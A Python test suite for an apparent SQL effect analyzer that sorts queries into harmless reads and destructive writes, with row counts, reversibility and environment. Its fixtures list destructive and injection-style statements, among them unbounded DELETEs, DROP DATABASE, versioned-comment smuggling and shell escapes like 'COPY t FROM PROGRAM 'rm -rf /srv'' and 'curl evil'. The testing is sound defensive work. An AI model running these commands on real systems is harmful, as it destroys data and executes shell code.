"""SQL in, effects out."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from commensurate.effects.reading import Language, Reading, Scene
from commensurate.effects.sql import read, read_structured
from commensurate.model.analysis import Coverage
from commensurate.model.effect import BlastRadius, Effect, Environment, Operation, ResourceKind, Reversibility, Trait


def changes(reading: Reading) -> list[Effect]:
    return [effect for effect in reading.effects if effect.changes]


def told(text: str, dialect: str = "") -> set[tuple[str, str, str]]:
    return {(e.operation, e.resource.kind, e.resource.name) for e in changes(read(text, Scene(), dialect=dialect))}


LOOKS = [
    "SELECT 1",
    "select * from users where id = 5;",
    "SELECT * FROM users u JOIN orders AS o ON o.user_id = u.id WHERE lower(u.name) = 'drop table users'",
    "WITH recent AS (SELECT * FROM orders) SELECT count(*), avg(total) FROM recent GROUP BY day HAVING count(*) > 1",
    "SELECT a FROM t UNION ALL SELECT b FROM s ORDER BY 1 LIMIT 5",
    'SELECT "delete", "drop" FROM "update"',
    "SELECT * FROM t WHERE note LIKE '%DELETE FROM users%' -- DROP TABLE users",
    "SELECT /* TRUNCATE t */ 1",
    "SELECT * FROM jobs FOR UPDATE SKIP LOCKED",
    "SELECT replace(name, 'a', 'b') FROM t",
    "SELECT x::float / NULLIF(y, 0) FROM t WHERE n ILIKE '%a%'",
    "SELECT date_trunc('month', created_at) FROM events",
    "SELECT TOP 5 [name] FROM [dbo].[users]",
    "SELECT `name` FROM `users` LIMIT 3",
    "EXPLAIN SELECT * FROM users",
    "EXPLAIN DELETE FROM users",
    "EXPLAIN (FORMAT JSON) UPDATE users SET a = 1",
    "EXPLAIN ANALYZE SELECT * FROM users",
    "EXPLAIN QUERY PLAN SELECT 1",
    "SHOW TABLES",
    "SHOW CREATE TABLE users",
    "DESCRIBE users",
    "PRAGMA table_info(users)",
    "PRAGMA foreign_keys",
    "VALUES (1), (2)",
    "COPY users TO STDOUT",
    "COPY (SELECT * FROM users) TO STDOUT WITH CSV",
    "BEGIN; SELECT 1; COMMIT",
    "SET search_path TO app; SELECT 1",
    "USE shop; SELECT 1",
    "\\dt+ public.*",
    "\\d users",
    ".tables",
    ".schema users",
    "SELECT * FROM users \\gx",
]


@pytest.mark.parametrize("text", LOOKS)
def test_looking_is_proven(text: str) -> None:
    """What only looks is understood in full and changes nothing, whatever words stand in its strings and comments."""
    reading = read(text, Scene())
    assert reading.coverage is Coverage.FULL
    assert not changes(reading)
    assert not reading.nested


NOT_PROVEN = [
    "SELECT my_function(1)",
    "SELECT evil.lower(name) FROM users",
    "SELECT pg_terminate_backend(5)",
    "SELECT nextval('seq')",
    "SELECT lo_unlink(5)",
    "SELECT * FROM dblink('x', 'delete from t') AS t(a int)",
    "SELECT load_extension('x')",
    "SELECT * INTO copy FROM users",
    "SELECT * FROM users INTO OUTFILE '/tmp/x'",
    "SELECT 'drop table ' || tablename FROM pg_tables \\gexec",
    "SELECT 1 DROP TABLE users",
    "SELECT a DELETE FROM users",
    "WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone",
    "EXPLAIN ANALYZE DELETE FROM users",
    "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users",
    "DO $$ BEGIN PERFORM 1; END $$",
    "CALL cleanup()",
    "EXEC cleanup",
    "EXECUTE prepared",
    "FLUSH PRIVILEGES",
    "RESET MASTER",
    "VACUUM FULL",
    "LOAD DATA INFILE 'x' INTO TABLE users",
    "COPY users FROM PROGRAM 'curl x'",
    "SELECT 1 /*!50000 ; DROP TABLE users */",
    "SELECT '\\'; DROP TABLE users; --'",
    "SELECT 'not closed",
    "SELECT /* not closed",
    "\\i migration.sql",
    "frobnicate users",
    "PRAGMA writable_schema = 1",
    "SET GLOBAL read_only = 0",
    "(" * 500 + "SELECT 1" + ")" * 500 + " WHERE f(",
]


@pytest.mark.parametrize("text", NOT_PROVEN)
def test_what_may_act_is_never_called_a_look(text: str) -> None:
    """Anything outside the allow-list is either told as a change or not understood in full."""
    reading = read(text, Scene())
    assert reading.coverage is not Coverage.FULL or changes(reading)


D, U, C = Operation.DELETE, Operation.UPDATE, Operation.CREATE
ROW, TABLE = ResourceKind.ROW, ResourceKind.TABLE

ACTS = [
    ("DELETE FROM users", {(D, ROW, "users")}),
    ('DELETE FROM "public"."users"', {(D, ROW, "public.users")}),
    ("UPDATE users SET a = 1", {(U, ROW, "users")}),
    ("INSERT INTO t VALUES (1)", {(C, ROW, "t")}),
    ("INSERT INTO t SELECT * FROM s", {(C, ROW, "t")}),
    ("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1", {(C, ROW, "t"), (U, ROW, "t")}),
    ("INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", {(C, ROW, "t")}),
    ("REPLACE INTO t VALUES (1)", {(C, ROW, "t"), (U, ROW, "t")}),
    ("DROP TABLE users", {(D, TABLE, "users")}),
    ("drop table if exists a, b cascade", {(D, TABLE, "a"), (D, TABLE, "b")}),
    ("DROP DATABASE shop", {(D, ResourceKind.DATABASE, "shop")}),
    ("DROP SCHEMA public CASCADE", {(D, ResourceKind.SCHEMA, "public")}),
    ("DROP INDEX CONCURRENTLY idx", {(D, ResourceKind.INDEX, "idx")}),
    ("DROP MATERIALIZED VIEW v", {(D, ResourceKind.VIEW, "v")}),
    ("DROP ROLE bob", {(D, ResourceKind.USER, "bob")}),
    ("TRUNCATE a, b", {(D, ROW, "a"), (D, ROW, "b")}),
    ("TRUNCATE TABLE users", {(D, ROW, "users")}),
    ("ALTER TABLE users DROP COLUMN email", {(D, TABLE, "users.email")}),
    ("ALTER TABLE users ADD COLUMN email text", {(U, TABLE, "users")}),
    ("ALTER TABLE users DISABLE ROW LEVEL SECURITY", {(Operation.GRANT, ResourceKind.POLICY, "users")}),
    ("CREATE TABLE t (id int)", {(C, TABLE, "t")}),
    ("CREATE OR REPLACE TABLE t AS SELECT 1", {(D, TABLE, "t"), (C, TABLE, "t")}),
    ("GRANT ALL ON t TO PUBLIC", {(Operation.GRANT, ResourceKind.PERMISSION, "ALL ON t to PUBLIC")}),
    ("SELECT * INTO copy FROM users", {(C, TABLE, "copy")}),
    ("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", {(D, ROW, "t")}),
    ("WITH x AS (DELETE FROM t RETURNING *) INSERT INTO s SELECT * FROM x", {(D, ROW, "t"), (C, ROW, "s")}),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", {(D, ROW, "t")}),
    ("EXPLAIN ANALYZE DELETE FROM t", {(D, ROW, "t")}),
    ("PREPARE p AS DELETE FROM t", {(D, ROW, "t")}),
    ("PREPARE p FROM 'DROP TABLE t'", {(D, TABLE, "t")}),
    ("EXECUTE IMMEDIATE 'DROP TABLE t'", {(D, TABLE, "t")}),
    ("EXEC sp_executesql N'DROP TABLE t'", {(D, TABLE, "t")}),
    ("EXEC('DROP TABLE t')", {(D, TABLE, "t")}),
    ("DO $$ BEGIN DELETE FROM t; END $$", {(D, ROW, "t")}),
    ("/*!50000 DROP TABLE t */", {(D, TABLE, "t")}),
    ("SELECT 1; DROP TABLE t", {(D, TABLE, "t")}),
    ("SELECT '\\'; DROP TABLE t; --'", {(D, TABLE, "t")}),
    ("IF OBJECT_ID('t') IS NOT NULL DROP TABLE t", {(D, TABLE, "t")}),
    ("SELECT 1\n\n-- a comment; with a semicolon\n;\nDELETE FROM t", {(D, ROW, "t")}),
]


@pytest.mark.parametrize(("text", "effects"), ACTS)
def test_acts_are_told_with_what_they_touch(text: str, effects: set[tuple[str, str, str]]) -> None:
    """The kind of thing and its name, wherever the statement hides."""
    assert effects <= told(text)


UNBOUNDED = [
    "DELETE FROM users",
    "DELETE FROM users WHERE 1=1",
    "DELETE FROM users WHERE TRUE",
    "DELETE FROM users WHERE 'a' = 'a'",
    "DELETE FROM users WHERE id = id",
    "DELETE FROM users WHERE id = 5 OR 1 = 1",
    "DELETE FROM users WHERE 2 > 1 AND TRUE",
    "DELETE FROM users WHERE NOT FALSE",
    "DELETE FROM users WHERE id > 0",
    "DELETE FROM users WHERE id >= 1",
    "DELETE FROM users WHERE id IS NOT NULL",
    "DELETE FROM users WHERE id <> 5",
    "DELETE FROM users WHERE name LIKE '%'",
    "DELETE FROM users WHERE id IN (SELECT id FROM users)",
    "DELETE FROM users WHERE 1",
    "UPDATE users SET active = false",
    "UPDATE users SET active = false WHERE 1 = 1",
    "TRUNCATE users",
]


@pytest.mark.parametrize("text", UNBOUNDED)
def test_a_condition_that_limits_nothing_is_no_condition(text: str) -> None:
    """A WHERE that is absent, always true, or true of every row that has a key, leaves the write unbounded."""
    (effect,) = changes(read(text, Scene()))
    assert Trait.UNBOUNDED in effect.traits
    assert effect.reversibility is Reversibility.IRREVERSIBLE
    assert effect.blast_radius >= BlastRadius.SEVERAL


COUNTED = [
    ("DELETE FROM users WHERE id = 5", 1, BlastRadius.ONE),
    ("DELETE FROM users WHERE user_id = 5", 1, BlastRadius.ONE),
    ("DELETE FROM categories WHERE category_id = 5", 1, BlastRadius.ONE),
    ("UPDATE users SET a = 1 WHERE email = 'a@b.c' AND active", 1, BlastRadius.ONE),
    ("DELETE FROM users WHERE id = $1", 1, BlastRadius.ONE),
    ("DELETE FROM users WHERE id IN (1, 2, 3)", 3, BlastRadius.SEVERAL),
    ("DELETE FROM users WHERE id = 1 OR id = 2", 2, BlastRadius.SEVERAL),
    ("DELETE FROM users WHERE status = 'gone' LIMIT 1", 1, BlastRadius.ONE),
    ("DELETE FROM users WHERE 1 = 0", 0, BlastRadius.ONE),
    ("DELETE FROM users WHERE status = 'gone'", None, BlastRadius.SEVERAL),
    ("DELETE FROM orders WHERE customer_id = 5", None, BlastRadius.SEVERAL),
    ("INSERT INTO t VALUES (1), (2), (3)", 3, BlastRadius.SEVERAL),
    ("INSERT INTO t VALUES (1); INSERT INTO t VALUES (2)", 2, BlastRadius.SEVERAL),
]


@pytest.mark.parametrize(("text", "count", "radius"), COUNTED)
def test_rows_are_counted_where_a_key_names_them(text: str, count: int | None, radius: BlastRadius) -> None:
    """A key with constants names rows; any other condition lets through nobody knows how many."""
    (effect,) = changes(read(text, Scene()))
    assert (effect.resource.count, effect.blast_radius) == (count, radius)


def test_a_rollback_undoes_data() -> None:
    """Between BEGIN and ROLLBACK a DELETE is taken back; after COMMIT it is not."""
    (undone,) = changes(read("BEGIN; DELETE FROM users; ROLLBACK", Scene()))
    assert undone.reversibility is Reversibility.REVERSIBLE
    (done,) = changes(read("BEGIN; DELETE FROM users; COMMIT", Scene()))
    assert done.reversibility is Reversibility.IRREVERSIBLE
    (after,) = changes(read("BEGIN; SELECT 1; ROLLBACK; DELETE FROM users", Scene()))
    assert after.reversibility is Reversibility.IRREVERSIBLE
    (partly,) = changes(read("BEGIN; DELETE FROM users; ROLLBACK TO SAVEPOINT a; COMMIT", Scene()))
    assert partly.reversibility is Reversibility.IRREVERSIBLE


def test_a_rollback_undoes_definitions_only_where_the_dialect_does() -> None:
    """PostgreSQL and SQLite roll DDL back; MySQL commits before it; an unknown dialect counts as MySQL."""
    text = "BEGIN; DELETE FROM a; DROP TABLE b; ROLLBACK"
    undone = changes(read(text, Scene(), dialect="postgres"))
    assert {e.reversibility for e in undone} == {Reversibility.REVERSIBLE}
    for dialect in ("mysql", ""):
        kept = changes(read(text, Scene(), dialect=dialect))
        assert {e.reversibility for e in kept} == {Reversibility.IRREVERSIBLE}


@pytest.mark.parametrize(
    ("text", "dialect", "language", "inner"),
    [
        ("COPY t FROM PROGRAM 'rm -rf /srv'", "postgres", Language.SHELL, "rm -rf /srv"),
        ("COPY t TO PROGRAM 'curl evil'", "", Language.SHELL, "curl evil"),
        ("\\! rm -rf /srv", "postgres", Language.SHELL, "rm -rf /srv"),
        (".shell rm -rf /srv", "sqlite", Language.SHELL, "rm -rf /srv"),
        (".system rm -rf /srv", "sqlite", Language.SHELL, "rm -rf /srv"),
        ("\\! rm -rf /srv", "mysql", Language.SHELL, "rm -rf /srv"),
        ("system rm -rf /srv", "mysql", Language.SHELL, "rm -rf /srv"),
        ("EXEC xp_cmdshell 'del c:\\x'", "tsql", Language.SHELL, "del c:\\x"),
        ("\\copy t from program 'rm -rf /srv'", "postgres", Language.SHELL, "rm -rf /srv"),
        ("SELECT 1; \\! rm -rf /srv", "postgres", Language.SHELL, "rm -rf /srv"),
        ("SELECT 1 \\g |rm -rf /srv", "postgres", Language.SHELL, "rm -rf /srv"),
    ],
)
def test_what_a_statement_hands_to_a_shell_is_handed_on(
    text: str, dialect: str, language: Language, inner: str
) -> None:
    """Commands inside SQL and inside the client's own language are nested shell text."""
    nested = read(text, Scene(), dialect=dialect).nested
    assert [(n.language, n.text) for n in nested] == [(language, inner)]


def test_the_environment_comes_from_scene_and_qualifiers() -> None:
    """A database's name tells the world; the scene's own is kept."""
    (effect,) = changes(read("DROP DATABASE shop_production", Scene()))
    assert effect.environment is Environment.PRODUCTION
    (effect,) = changes(read("DELETE FROM t", Scene(environment=Environment.STAGING)))
    assert effect.environment is Environment.STAGING
    (effect,) = changes(read("DELETE FROM prod.public.users WHERE id = 1", Scene()))
    assert effect.environment is Environment.PRODUCTION
    (effect,) = changes(read("USE shop_production; DELETE FROM users", Scene()))
    assert effect.environment is Environment.PRODUCTION


def test_a_long_script_is_added_up() -> None:
    """Two thousand inserts are one effect with a count, and still understood in full."""
    reading = read("INSERT INTO t VALUES (1, 'a');\n" * 2000, Scene())
    assert reading.coverage is Coverage.FULL
    assert [e.resource.count for e in reading.effects] == [2000]


STRUCTURED = [
    ({"query": "SELECT 1"}, set()),
    ({"sql": "DROP TABLE t", "database": "x"}, {(D, TABLE, "t")}),
    ({"statements": ["SELECT 1", "DELETE FROM t"]}, {(D, ROW, "t")}),
    ({"sql_keyword": "DELETE", "table_name": "t", "conditions": ["id = 5"]}, {(D, ROW, "t")}),
    ({"sql_keyword": "DROP", "table_name": "t"}, {(D, TABLE, "t")}),
    ({"sql_keyword": "SELECT", "table_name": "t", "columns": ["a", "b"]}, set()),
    ({"sql_keyword": "INSERT INTO", "table_name": "t", "insert_values": ["a", 1]}, {(C, ROW, "t")}),
    ({"sql_keyword": "UPDATE", "table_name": "t", "columns": ["a"], "update_values": "x"}, {(U, ROW, "t")}),
]


@pytest.mark.parametrize(("arguments", "effects"), STRUCTURED)
def test_sql_in_parts_is_read_as_the_statement_it_describes(
    arguments: dict[str, object], effects: set[tuple[str, str, str]]
) -> None:
    """A tool that takes keyword, table and conditions does what the statement would."""
    reading = read_structured(arguments, Scene())
    assert reading is not None
    assert {(e.operation, e.resource.kind, e.resource.name) for e in changes(reading)} == effects


def test_other_arguments_are_not_taken_for_sql() -> None:
    """A search query is not SQL."""
    assert read_structured({"query": "cheap flights to Rome"}, Scene()) is None
    assert read_structured({"path": "x"}, Scene()) is None


@pytest.mark.parametrize("piece", ["(", "'", "\\'", "/*", "a,", ".x\n", "\\d\n", "SELECT ", "DELETE FROM t WHERE a=1 OR ", "[a", "$a$", "<%", "{", "CASE WHEN "])  # fmt: skip
def test_long_and_deep_texts_are_given_up_not_chased(piece: str) -> None:
    """64 KB of anything has a reading, and soon."""
    assert read(piece * (64_000 // len(piece)), Scene()) is not None


ALPHABET = st.sampled_from(
    ["SELECT", "DELETE", "FROM", "DROP TABLE", "WHERE", " ", "1=1", "'", '"', "`", "--", "/*", "*/", "/*!", ";", "\\", "$$", "(", ")", "users", ",", "\n",
     "BEGIN", "ROLLBACK", "EXPLAIN ANALYZE", "WITH x AS", "INTO", "UPDATE", "SET", "a", "=", "{x}", ":p", "#", "EXEC", "\\!", ".shell", "é", "\x00"]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(ALPHABET, max_size=30).map("".join))
def test_no_text_breaks_the_reader(text: str) -> None:
    """Any text has a reading."""
    assert read(text, Scene()) is not None


WRAPS = ["{}", "SELECT 1; {}", "{};", "-- note\n{}", "/* x */ {}", "BEGIN; {}; COMMIT", "EXPLAIN ANALYZE {}", "PREPARE p AS {}", "EXECUTE IMMEDIATE '{}'", "/*!50000 {} */", "DO $$ BEGIN {}; END $$"]  # fmt: skip


@given(
    st.sampled_from(WRAPS),
    st.sampled_from(WRAPS),
    st.sampled_from(["DELETE FROM users", "delete from users where 1=1", "Delete\nFrom\tusers"]),
)
def test_a_deletion_stays_whatever_is_wrapped_around_it(outer: str, inner: str, core: str) -> None:
    """No carrier of SQL hides that every row of the table goes."""
    text = outer.format(inner.format(core)) if "'" not in inner or "'" not in outer else outer.format(core)
    reading = read(text, Scene())
    assert (
        any(e.operation is D and e.resource.name == "users" for e in reading.effects)
        or reading.coverage is Coverage.OPAQUE
    )


INERT = [
    "SELECT '{}'",
    "SELECT 1 -- {}",
    "SELECT 1 /* {} */",
    "INSERT INTO notes VALUES ('{}')",
    "COMMENT ON TABLE t IS '{}'",
    'SELECT "{}" FROM t',
]


@given(
    st.sampled_from(INERT),
    st.sampled_from(["DELETE FROM users", "DROP TABLE users", "TRUNCATE users", "UPDATE users SET a = 1"]),
)
def test_words_in_strings_and_comments_do_nothing(place: str, words: str) -> None:
    """Text is not execution."""
    assert not [e for e in read(place.format(words), Scene()).effects if e.resource.name == "users"]
